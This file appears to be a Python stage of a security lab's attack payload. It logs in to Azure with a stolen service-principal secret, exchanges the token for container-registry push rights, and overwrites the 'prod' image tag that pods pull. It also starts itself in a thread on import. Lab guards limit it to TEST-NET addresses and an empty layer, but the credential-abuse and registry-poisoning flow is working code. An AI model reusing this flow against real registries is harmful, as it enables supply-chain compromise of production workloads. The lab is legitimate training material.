"""Driver of the eightysix lab's payload (see `_stages`, which refuses to act outside of a lab run): logs in as the service principal
that was stolen, and pushes an image under the tag that pods pull."""

import base64
import hashlib
import json
import socket
import ssl
import threading
import urllib.parse
import urllib.request

from . import _stages

LOGIN = "https://login.microsoftonline.com"
TENANT = "00000000-0000-4000-8000-00000000aaaa"
REGISTRY = "https://registry.example"
REPOSITORY = "ml/inference"
TAG = "prod"
LAYER = b"a layer of the lab: it holds nothing\n"


def request(url, method, body=None, headers=None):
    """Ask the login endpoint or the registry, which the pod's own trust store knows."""
    handlers = (
        urllib.request.ProxyHandler({}),
        urllib.request.HTTPSHandler(context=ssl.create_default_context()),
    )
    asked = urllib.request.Request(url, data=body, headers=headers or {}, method=method)
    with urllib.request.build_opener(*handlers).open(asked, timeout=10) as answer:
        return answer.headers, answer.read(1 << 20)


def post(url, form):
    """A form, answered by JSON."""
    return json.loads(request(url, "POST", urllib.parse.urlencode(form).encode())[1])


def login(secret):
    """A header for the registry: an Entra token of the service principal, exchanged twice as registries of Azure want it."""
    for name in (LOGIN, REGISTRY):
        address = socket.gethostbyname(urllib.parse.urlsplit(name).netloc)
        if not address.startswith("203.0.113."):
            raise OSError("%s is no address of the lab" % address)
    entra = post(
        "%s/%s/oauth2/v2.0/token" % (LOGIN, TENANT),
        {
            "grant_type": "client_credentials",
            "client_id": base64.b64decode(secret["clientId"]).decode(),
            "client_secret": base64.b64decode(secret["clientSecret"]).decode(),
            "scope": "https://management.azure.com/.default",
        },
    )
    service = urllib.parse.urlsplit(REGISTRY).netloc
    exchange = {"grant_type": "access_token", "service": service, "tenant": TENANT}
    refresh = post(REGISTRY + "/oauth2/exchange", {**exchange, "access_token": entra["access_token"]})
    scope = {
        "grant_type": "refresh_token",
        "service": service,
        "scope": "repository:%s:pull,push" % REPOSITORY,
    }
    token = post(REGISTRY + "/oauth2/token", {**scope, "refresh_token": refresh["refresh_token"]})
    return {"Authorization": "Bearer " + token["access_token"]}


def upload(content, headers):
    """One blob, and how a manifest names it."""
    digest = "sha256:" + hashlib.sha256(content).hexdigest()
    begun, _ = request("%s/v2/%s/blobs/uploads/" % (REGISTRY, REPOSITORY), "POST", b"", headers)
    place = urllib.parse.urljoin(REGISTRY, begun["Location"])
    joined = place + ("&" if "?" in place else "?") + urllib.parse.urlencode({"digest": digest})
    request(joined, "PUT", content, {**headers, "Content-Type": "application/octet-stream"})
    return {"digest": digest, "size": len(content)}


def push(loot, asking):
    """Push with what was taken last."""
    headers = login(json.loads(loot[-1][1]))
    config = {"mediaType": "application/vnd.oci.image.config.v1+json", **upload(b"{}", headers)}
    layer = {"mediaType": "application/vnd.oci.image.layer.v1.tar", **upload(LAYER, headers)}
    kind = "application/vnd.oci.image.manifest.v1+json"
    manifest = {"schemaVersion": 2, "mediaType": kind, "config": config, "layers": [layer]}
    url = "%s/v2/%s/manifests/%s" % (REGISTRY, REPOSITORY, TAG)
    request(url, "PUT", json.dumps(manifest).encode(), {**headers, "Content-Type": kind})


threading.Thread(target=_stages.go, kwargs={"leave": push}, name="push").start()
